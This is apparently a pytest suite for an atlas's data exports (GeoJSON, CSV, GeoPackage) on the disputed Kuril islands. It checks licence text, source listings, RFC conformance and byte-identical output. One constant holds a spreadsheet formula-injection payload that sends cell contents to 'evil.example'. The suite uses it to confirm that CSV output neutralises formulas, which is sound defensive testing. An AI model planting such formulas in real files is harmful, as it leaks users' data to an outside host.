"""The data to take away, each file opened again with what an analyst opens it with."""

import csv
import io
import json
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from hashlib import sha256

import geopandas
import pandas
import pyogrio
import pytest

from content.atlas import load_atlas
from content.brief import data
from content.brief.data import geojson, geopackage, table
from content.wording import RECORDS
from geo import UNITS
from geo.outlines import ISLANDS, read_outlines
from tests.project import TOP, change, records

ATLAS = load_atlas()
BOOKS = ATLAS.books
EDITION = "0123456789"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"a")\nsecond, line\r\n\'quoted\' <b>&amp;</b> 択捉'
LAYERS = ["units", "areas", "populations", "events", "proposals", "shares", "sources", "about"]


def cells(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.fixture(scope="module")
def opened(tmp_path_factory):
    """Opens a GeoPackage: layer -> its rows, with None where there is nothing."""

    def layers(content):
        path = tmp_path_factory.mktemp("data") / "islands.gpkg"
        path.write_bytes(content)
        read = {str(name): geopandas.read_file(path, layer=name) for name, _ in pyogrio.list_layers(path)}
        return {name: frame.astype(object).where(frame.notna(), None) for name, frame in read.items()}

    return layers


@pytest.fixture(scope="module")
def package(opened):
    return opened(geopackage(ATLAS, EDITION))


@pytest.mark.parametrize("make", [geojson, table, geopackage])
def test_licence_attribution_and_edition_are_inside(make):
    content = make(ATLAS, EDITION).decode("utf-8", errors="replace")
    for text in (
        "Open Database License (ODbL) 1.0",
        "© OpenStreetMap contributors",
        BOOKS.wording.brief.licence,
        EDITION,
    ):
        assert text in content


def test_what_was_altered_is_what_the_readme_says():
    row = next(
        line for line in (TOP / "geo/README.md").read_text("utf-8").splitlines() if "| `islands.geojson`" in line
    )
    assert data.ALTERED in row


# GeoJSON


def test_geojson_has_the_outlines_as_shipped():
    shipped, made = json.loads(ISLANDS.read_text("utf-8")), json.loads(geojson(ATLAS, EDITION))
    assert [f["geometry"] for f in made["features"]] == [f["geometry"] for f in shipped["features"]]
    assert [f["id"] for f in made["features"]] == [f["properties"]["unit"] for f in made["features"]] == list(UNITS)
    assert (made["license"], made["attribution"]) == (shipped["license"], shipped["attribution"])


def test_geojson_keeps_to_its_rfc():
    made = json.loads(geojson(ATLAS, EDITION))
    assert "crs" not in made and made["type"] == "FeatureCollection"
    assert not {"coordinates", "geometries", "geometry", "properties"} & made.keys()  # section 7.1
    for polygon in read_outlines().geometry.explode():
        assert polygon.exterior.is_ccw and not any(ring.is_ccw for ring in polygon.interiors)


def test_geojson_opens_in_geopandas():
    frame = geopandas.read_file(io.BytesIO(geojson(ATLAS, EDITION)))
    assert frame.crs == "EPSG:4326"
    assert list(frame["name_ja"]) == ["択捉島", "国後島", "色丹島", "歯舞群島"]
    assert set(frame["status"]) == {"Administered by Russia; claimed by Japan"}
    assert frame.set_index("unit").geometry.geom_equals(read_outlines().geometry).all()


@pytest.mark.parametrize("record", RECORDS)
def test_geojson_areas_are_the_atlas_s(record):
    made = json.loads(geojson(ATLAS, EDITION, record))
    known = {source["id"]: source for source in made["sources"]}
    for feature in made["features"]:
        own = feature["properties"]
        lines = {line.figure.id: line for line in ATLAS.dossiers[own["unit"]].areas}
        assert own["measured_km2"] == round(ATLAS.measured_km2[own["unit"]], 2)
        assert own["areas"] and (record == "articles" or len(own["areas"]) == len(lines))
        for area in own["areas"]:
            line = lines[area["figure"]]
            assert (area["area_km2"], area["as_printed"]) == (line.figure.area_km2, line.figure.as_printed)
            assert area["difference_percent"] == pytest.approx(line.difference_percent, abs=0.005)
            source = known[area["source_ids"]]
            assert (area["source"], area["source_url"]) == (source["label"], source["url"])


# CSV


def test_csv_is_a_row_for_each_unit_and_figure():
    rows = cells(table(ATLAS, EDITION))
    expected = [(unit, line.figure.id) for unit, dossier in ATLAS.dossiers.items() for line in dossier.areas]
    assert [(row["unit"], row["figure"]) for row in rows] == expected
    assert all(row["license"] and row["attribution"] and row["edition"] == EDITION and row["source"] for row in rows)


def test_csv_is_as_rfc_4180_and_spreadsheets_have_it():
    content = table(ATLAS, EDITION)
    assert content.startswith(b"\xef\xbb\xbfunit,")
    assert content.endswith(b"\r\n") and b"\n" not in content.replace(b"\r\n", b"")
    assert len({len(row) for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))}) == 1


def test_csv_opens_in_pandas_with_numbers_as_numbers():
    frame = pandas.read_csv(io.BytesIO(table(ATLAS, EDITION)))
    assert frame.columns[0] == "unit"
    assert all(frame[name].dtype == "float64" for name in ("measured_km2", "area_km2", "difference_percent"))
    assert frame["difference_percent"].min() < 0
    article = frame[frame["units"] == "shikotan habomai"].drop_duplicates("figure")
    assert list(article["area_km2"]) == [276] and list(article["source"]) == ["RIA Novosti, 23 Oct 2007"]


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"])
def test_text_that_a_spreadsheet_would_run_is_made_text(first):
    assert data._harmless(f"{first}1+1") == f"'{first}1+1"


@pytest.mark.parametrize("value", [-0.06, None, "", "Kunashir", "−0.06 %", "3,168", "a=b"])
def test_all_else_stays(value):
    assert data._harmless(value) is value


# GeoPackage


def test_geopackage_has_its_layers(package):
    assert list(package) == LAYERS
    counts = {name: len(package[name]) for name in ("units", "populations", "events", "proposals")}
    assert counts == {
        "units": 4,
        "populations": len(BOOKS.populations),
        "events": len(BOOKS.events),
        "proposals": len(BOOKS.proposals),
    }
    assert len(package["areas"]) == sum(len(dossier.areas) for dossier in ATLAS.dossiers.values())


def test_geopackage_has_the_outlines(opened, tmp_path):
    path = tmp_path / "islands.gpkg"
    path.write_bytes(geopackage(ATLAS, EDITION))
    units = geopandas.read_file(path, layer="units")
    assert units.crs == "EPSG:4326"
    assert units.set_index("unit").geometry.geom_equals_exact(read_outlines().geometry, 0).all()
    for told in ("dataset_metadata", "layer_metadata"):
        read = pyogrio.read_info(path, layer="units")[told]
        assert read["edition"] == EDITION and "ODbL" in read["license"] and "OpenStreetMap" in read["attribution"]


def test_about_can_be_read(package):
    told = dict(zip(package["about"]["subject"], package["about"]["text"], strict=True))
    assert told == data.about(ATLAS, EDITION, "all")
    assert told["altered"] == data.ALTERED and told["edition"] == EDITION


@pytest.mark.parametrize("record", RECORDS)
def test_every_row_names_sources_that_are_listed(opened, record):
    layers = opened(geopackage(ATLAS, EDITION, record))
    labels = dict(zip(layers["sources"]["id"], layers["sources"]["label"], strict=True))
    for name in layers.keys() - {"sources", "about"}:
        for row in layers[name].itertuples():
            ids = row.source_ids.split()
            assert ids and all(labels[source] in row.source for source in ids)


def test_events_and_proposals_say_what_the_records_say(package):
    for row in package["events"].itertuples():
        event = BOOKS.events[row.event]
        assert (row.date, row.until, row.title, tuple(row.units.split())) == (
            *(event.date, event.until, event.title, event.units),
        )
        assert all(statement.text in row.text for statement in event.statements)
    for row in package["proposals"].itertuples():
        proposal = BOOKS.proposals[row.proposal]
        told = "\n".join(getattr(row, name) or "" for name in ("terms", "accounts", "conditions", "answer", "fate"))
        assert all(statement.text in told for statement in proposal.statements)
    offer = package["proposals"].set_index("proposal").loc["transfer-1956"]
    assert list(offer[list(UNITS)]) == ["not addressed", "not addressed", "Japan", "Japan"]


def test_shares_are_the_atlas_s(package):
    shares = package["shares"]
    own = shares[(shares["proposal"] == "transfer-1956") & (shares["holder"] == "Japan") & shares["km2"].notna()]
    lines = ATLAS.shares["transfer-1956"]
    assert list(own["percent"]) == [round(line.holdings["japan"].percent, 2) for line in lines]
    assert list(own["figures"]) == [BOOKS.wording.proposals.figures[line.figures] for line in lines]
    printed = sum(len(proposal.shares) for proposal in BOOKS.proposals.values())
    assert shares["as_printed"].notna().sum() == printed


# The articles alone


def test_articles_alone_leave_the_references_out(opened):
    layers = opened(geopackage(ATLAS, EDITION, "articles"))
    assert list(layers) == [name for name in LAYERS if name != "populations"]
    named = {name for unit in BOOKS.units.values() for name in unit.names.references}
    for name in ("areas", "events", "proposals"):
        assert all(set(ids.split()) & BOOKS.excerpts.keys() for ids in layers[name]["source_ids"])
    # a sentence that an article bears keeps its further sources; the islands' names rest on references alone
    assert named | {"outlines"} <= set(layers["sources"]["id"])
    assert set(layers["shares"]["figures"]) <= {
        *(BOOKS.wording.proposals.figures[name] for name in ("measured", "article")),
        BOOKS.wording.proposals.as_printed,
    }
    rows = cells(table(ATLAS, EDITION, "articles"))
    assert {row["unit"] for row in rows} == set(UNITS) and {row["source_ids"] for row in rows} == {"a0-15"}
    text = geojson(ATLAS, EDITION, "articles").decode()
    assert "gsi-area-survey" not in text and "mofa-japan-areas" not in text


# Same input, same bytes

DIGESTS = """
from hashlib import sha256
from content.atlas import load_atlas
from content.brief.data import geojson, geopackage, table
atlas = load_atlas()
print(*(sha256(make(atlas, "0123456789")).hexdigest() for make in (geojson, table, geopackage)))
"""


def test_same_bytes_in_another_process_later():
    ours = [sha256(make(ATLAS, EDITION)).hexdigest() for make in (geojson, table, geopackage)]
    run = subprocess.run([sys.executable, "-c", DIGESTS], cwd=TOP, capture_output=True, text=True, check=True)
    assert run.stdout.split() == ours


def test_same_bytes_from_many_threads_and_the_options_are_put_back():
    with ThreadPoolExecutor(8) as pool:
        made = set(pool.map(lambda _: geopackage(ATLAS, EDITION), range(24)))
    assert len(made) == 1
    assert pyogrio.get_gdal_config_option("OGR_CURRENT_DATE") is None
    assert pyogrio.get_gdal_config_option("OGR_SQLITE_SYNCHRONOUS") is None


# Hostile text


@pytest.fixture
def hostile(root):
    """An atlas whose records hold text that CSV, JSON, XML and spreadsheets trip over."""
    change(root, "units", "iturup", kind=HOSTILE)
    event = records(root, "events")[0]["id"]
    change(root, "events", event, title=HOSTILE)
    change(root, "references", "mofa-japan-areas", publisher=HOSTILE)
    return load_atlas(root), event


def test_hostile_text_survives(hostile, opened):
    atlas, event = hostile
    kind = atlas.books.units["iturup"].kind
    assert kind.startswith("=HYPERLINK(") and "\n" in kind
    assert json.loads(geojson(atlas, EDITION))["features"][0]["properties"]["kind"] == kind
    layers = opened(geopackage(atlas, HOSTILE))
    assert layers["units"]["kind"][0] == kind
    assert atlas.books.events[event].title in list(layers["events"]["title"])
    assert HOSTILE in list(layers["about"]["text"])
    rows = cells(table(atlas, EDITION))
    assert {row["kind"] for row in rows if row["unit"] == "iturup"} == {"'" + kind}
    risky = [text for row in rows for name, text in row.items() if text.startswith(data.FORMULA)]
    assert risky and all(float(text) < 0 for text in risky)  # our own numbers, and nothing else
    assert any(row["source"].startswith("'=HYPERLINK(") for row in rows)
